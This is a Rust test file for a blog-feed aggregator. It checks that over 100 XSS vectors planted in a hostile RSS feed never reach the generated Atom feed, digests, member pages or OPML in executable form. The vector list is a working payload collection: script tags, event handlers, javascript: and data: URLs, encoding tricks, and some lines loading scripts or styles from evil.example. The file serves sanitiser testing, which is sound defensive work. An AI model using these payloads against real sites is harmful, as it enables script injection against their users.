//! Republished HTML is sanitised: over 100 XSS vectors planted in titles, summaries,
//! full content and links of member feeds; none survives into the outputs in an executable form.
//! The check parses every HTML the outputs carry (the merged feed's `type="html"` content and any
//! HTML output file) and looks for scripts, event handlers, dangerous URL schemes, and active
//! elements.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::Path;

use common::html_check::{executable_forms, injected_forms};
use common::{club_config, run, text, M};

const NOW: &str = "2024-11-20T12:00:00+09:00";

/// The vectors: classic ones, then case, entity and whitespace variants.
pub fn vectors() -> Vec<String> {
    let base = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=javascript:alert(1)>",
        "<IMG SRC=JaVaScRiPt:alert(1)>",
        "<img src=`javascript:alert(1)`>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src=x:alert(1) onerror=eval(src)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a onmouseover=alert(1)>x</a>",
        "<a href=x onclick=\"alert(1)\">x</a>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<form action=\"javascript:alert(1)\"><input type=submit></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<input onfocus=alert(1) autofocus>",
        "<select onfocus=alert(1) autofocus>",
        "<textarea onfocus=alert(1) autofocus>",
        "<keygen onfocus=alert(1) autofocus>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<table background=\"javascript:alert(1)\">",
        "<td background=\"javascript:alert(1)\">",
        "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x\"></object>",
        "<applet code=x></applet>",
        "<frameset onload=alert(1)>",
        "<isindex action=javascript:alert(1) type=image>",
        "<x onclick=alert(1)>click</x>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1);//<</script>",
        "<script/xss src=https://evil.example/x.js></script>",
        "<script>alert(String.fromCharCode(88,83,83))</script>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "<!--<script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
        "<img src=x oNeRrOr=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x onerror\n=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
        "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
        "<a href=\"#\" style=\"behavior:url(x.htc)\">x</a>",
        "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>",
        "<img dynsrc=\"javascript:alert(1)\">",
        "<img lowsrc=\"javascript:alert(1)\">",
        "<bgsound src=\"javascript:alert(1)\">",
        "<br size=\"&{alert(1)}\">",
        "<layer src=\"https://evil.example/x\"></layer>",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<a href=\"data:image/svg+xml,<svg onload=alert(1)>\">x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<portal src=javascript:alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<listing><img src=x onerror=alert(1)></listing>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
        "<a href=\"\u{0}javascript:alert(1)\">x</a>",
        "<a href=\"javascript\u{0}:alert(1)\">x</a>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<div onpointerover=alert(1)>x</div>",
        "<body onpageshow=alert(1)>",
        "<svg><set onbegin=alert(1) attributename=x to=1>",
        "<img src=x onanimationstart=alert(1) style=\"animation-name:x\">",
        "<a href=\"https://ok.example/\" target=\"_blank\">new window</a>",
        "javascript:alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "<scRipt>alert(1)</scRipt>",
        "<img src=x onerror=alert`1`>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    ];
    base.iter().map(|s| s.to_string()).collect()
}

fn hostile_feed(dir: &Path) -> std::path::PathBuf {
    let mut items = String::new();
    for (i, v) in vectors().iter().enumerate() {
        let esc = v
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;");
        let link = if i % 3 == 0 {
            esc.clone()
        } else {
            format!("https://hostile.example/{i}")
        };
        items.push_str(&format!(
            "<item><title>{esc} 제목 {i}</title><link>{link}</link><guid isPermaLink=\"false\">g{i}</guid><pubDate>Sat, 16 Nov 2024 10:{:02}:{:02} +0900</pubDate><description>{esc} 요약 {i}</description><content:encoded>{esc} <p>본문 {i}</p></content:encoded></item>\n",
            i / 60,
            i % 60
        ));
    }
    let doc = format!(
        "<?xml version=\"1.0\"?><rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><title>&lt;script&gt;alert(1)&lt;/script&gt; 블로그</title><link>https://hostile.example/</link>{items}</channel></rss>"
    );
    let path = dir.join("hostile.xml");
    std::fs::write(&path, doc).unwrap();
    path
}

#[test]
fn over_a_hundred_vectors_never_reach_the_outputs_in_executable_form() {
    let vectors = vectors();
    assert!(vectors.len() >= 100, "{} vectors", vectors.len());
    // The checker itself catches the raw vectors.
    let caught = vectors
        .iter()
        .filter(|v| !executable_forms(v).is_empty())
        .count();
    let missed: Vec<&String> = vectors
        .iter()
        .filter(|v| executable_forms(v).is_empty())
        .collect();
    eprintln!("inert as raw HTML: {missed:?}");
    assert!(
        caught >= 85,
        "the checker recognises only {caught} raw vectors"
    );

    let dir = tempfile::tempdir().unwrap();
    let feed = hostile_feed(dir.path());
    let config = club_config(
        dir.path(),
        &[M {
            id: "hostile",
            name: "<script>alert(1)</script>",
            team: "<img src=x onerror=alert(1)>",
            feeds: vec![feed.display().to_string()],
        }],
        "",
        "content = \"full\"\nentries = 500",
    );
    let out = run(&config, NOW, &["fetch"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let atom_path = dir.path().join("public/atom.xml");
    let bytes = std::fs::read(&atom_path).unwrap();
    let atom = atom_syndication::Feed::read_from(&bytes[..]).unwrap();
    assert_eq!(atom.entries.len(), vectors.len());
    for e in &atom.entries {
        for l in &e.links {
            assert!(
                l.href.starts_with("https://"),
                "link {:?} in {}",
                l.href,
                e.id
            );
        }
        let html = e
            .content
            .as_ref()
            .and_then(|c| c.value.clone())
            .unwrap_or_default();
        let bad = executable_forms(&html);
        assert!(
            bad.is_empty(),
            "{}: content carries {bad:?}\n{html}",
            e.title.value
        );
        // Titles and summaries are plain text: whatever they hold is escaped by the XML writer.
        assert_eq!(e.title.r#type, atom_syndication::TextType::Text);
    }
    // The week's digest carries the same posts.
    let digest = run(&config, NOW, &["digest", "--week", "2024-W46"]);
    assert_eq!(digest.status.code(), Some(0), "{}", text(&digest));
    let digests = walk(&dir.path().join("digest"));
    assert!(
        digests
            .iter()
            .any(|p| p.extension().is_some_and(|x| x == "html")),
        "{digests:?}"
    );
    // The member's page, the team's feed and (after the last round) the cohort's retrospective
    // carry the hostile name, team and titles too.
    let after = run(&config, "2024-12-01T12:00:00+09:00", &["build"]);
    assert_eq!(after.status.code(), Some(0), "{}", text(&after));
    let public = dir.path().join("public");
    for page in ["members/hostile.html", "cohort.html"] {
        let html = std::fs::read_to_string(public.join(page)).unwrap();
        assert!(
            html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
            "{page}"
        );
    }
    let team_feed = public.join("teams/img-src-x-onerror-alert-1.xml");
    assert_conforms(&team_feed);
    w3c_validates(
        &public,
        "https://geultto.github.io/agg/",
        &[team_feed, public.join("atom.xml")],
    );
    // Every HTML output file (index.html, the members' pages, cohort.html, the digests) is inert.
    for entry in walk(dir.path()) {
        if entry.extension().is_some_and(|x| x == "html") {
            let html = std::fs::read_to_string(&entry).unwrap();
            let bad = injected_forms(&html);
            assert!(bad.is_empty(), "{}: {bad:?}", entry.display());
        }
    }
    assert_conforms(&atom_path);
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

use common::atom_check::{assert_conforms, w3c_validates};

/// A text field holding markup-looking text — an escaped `<script>` title now kept as text, a
/// literal `<img … onerror=…>` from `<xmp>` in a summary, a member's name and team from the
/// config — was published as that text, escaped for XML only: a reader that renders text
/// fields as HTML would run it. Every such `<` and `&` now carries a U+200B after it, in
/// atom.xml and in members.opml, and `opml import` gives the names back as they were.
#[test]
fn regression_markup_looking_text_in_text_fields_is_defused_in_atom_and_opml() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("marked.xml");
    std::fs::write(
        &feed,
        "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>&lt;b&gt;블로그&lt;/b&gt;</title><link>https://marked.example/</link>\
         <item><title>&lt;script&gt;alert(1)&lt;/script&gt;</title><link>https://marked.example/1</link><pubDate>Sat, 16 Nov 2024 10:00:00 +0900</pubDate><description>짧은 글</description></item>\
         <item><title>&lt;img src=x onerror=alert(2)&gt; &amp;amp;copy; 이미지</title><link>https://marked.example/2</link><pubDate>Sat, 16 Nov 2024 11:00:00 +0900</pubDate>\
         <description><![CDATA[<xmp><img src=x onerror=alert(3)></xmp> 요약 &lt;/x]]></description></item>\
         </channel></rss>",
    )
    .unwrap();
    let config = club_config(
        dir.path(),
        &[M {
            id: "marked",
            name: "<img src=x onerror=alert(4)> &copy;",
            team: "</x> 팀 &lt;",
            feeds: vec![feed.display().to_string()],
        }],
        "",
        "",
    );
    let out = run(&config, NOW, &["fetch"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));

    let atom_path = dir.path().join("public/atom.xml");
    let atom = atom_syndication::Feed::read_from(&std::fs::read(&atom_path).unwrap()[..]).unwrap();
    let mut fields = Vec::new();
    for e in &atom.entries {
        fields.push(("title", e.title.value.clone()));
        fields.extend(e.summary.iter().map(|s| ("summary", s.value.clone())));
        fields.extend(e.authors.iter().map(|a| ("author", a.name.clone())));
        fields.extend(e.categories.iter().map(|c| ("category", c.term.clone())));
        fields.extend(e.source.iter().map(|s| ("source", s.title.value.clone())));
    }
    let shown: Vec<(&str, String)> = fields
        .iter()
        .map(|(k, v)| (*k, v.replace('\u{200b}', "")))
        .collect();
    let want = [
        ("title", "<img src=x onerror=alert(2)> &copy; 이미지"),
        ("summary", "<img src=x onerror=alert(3)> 요약 </x"),
        ("author", "<img src=x onerror=alert(4)> &copy;"),
        ("category", "</x> 팀 &lt;"),
        ("source", "<b>블로그</b>"),
        ("title", "<script>alert(1)</script>"),
        ("summary", "짧은 글"),
        ("author", "<img src=x onerror=alert(4)> &copy;"),
        ("category", "</x> 팀 &lt;"),
        ("source", "<b>블로그</b>"),
    ];
    let want: Vec<(&str, String)> = want.iter().map(|(k, v)| (*k, v.to_string())).collect();
    assert_eq!(shown, want, "the text is shown as written");
    for (field, value) in &fields {
        assert_inert_as_html(field, value);
    }
    assert_conforms(&atom_path);

    let opml = std::fs::read_to_string(dir.path().join("public/members.opml")).unwrap();
    let mut reader = quick_xml::Reader::from_str(&opml);
    let mut shown_names = Vec::new();
    loop {
        match reader.read_event().unwrap() {
            quick_xml::events::Event::Eof => break,
            quick_xml::events::Event::Start(e) | quick_xml::events::Event::Empty(e) => {
                for a in e.attributes() {
                    let a = a.unwrap();
                    if matches!(a.key.as_ref(), "text" | "title") {
                        let v = a
                            .normalized_value(quick_xml::XmlVersion::Implicit1_0)
                            .unwrap()
                            .into_owned();
                        assert_inert_as_html("opml text", &v);
                        shown_names.push(v.replace('\u{200b}', ""));
                    }
                }
            }
            _ => {}
        }
    }
    assert!(
        shown_names.contains(&"<img src=x onerror=alert(4)> &copy;".to_string())
            && shown_names.contains(&"</x> 팀 &lt;".to_string()),
        "{shown_names:?}"
    );

    // `opml import` into an empty roster brings the names back without the defusing.
    let other = tempfile::tempdir().unwrap();
    let roster = other.path().join("feeds.toml");
    let shipped = std::fs::read_to_string(&config).unwrap();
    std::fs::write(&roster, &shipped[..shipped.find("[[members]]").unwrap()]).unwrap();
    let opml_path = dir.path().join("public/members.opml");
    let out = run(
        &roster,
        NOW,
        &["opml", "import", opml_path.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let rebuilt = geultto_agg::config::Config::load(&roster).unwrap();
    assert_eq!(
        rebuilt.members[0].name,
        "<img src=x onerror=alert(4)> &copy;"
    );
    assert_eq!(rebuilt.members[0].team, "</x> 팀 &lt;");
}

/// A text field that an HTML parser reads as text only: no element, no comment, no reference.
#[track_caller]
fn assert_inert_as_html(field: &str, value: &str) {
    let fragment = scraper::Html::parse_fragment(value);
    let elements = fragment
        .root_element()
        .descendants()
        .skip(1)
        .filter(|n| n.value().is_element() || n.value().is_comment())
        .count();
    assert_eq!(
        elements, 0,
        "{field} {value:?} holds markup to an HTML parser"
    );
    let text: String = fragment.root_element().text().collect();
    assert_eq!(text, value, "{field} {value:?} is not shown as written");
}
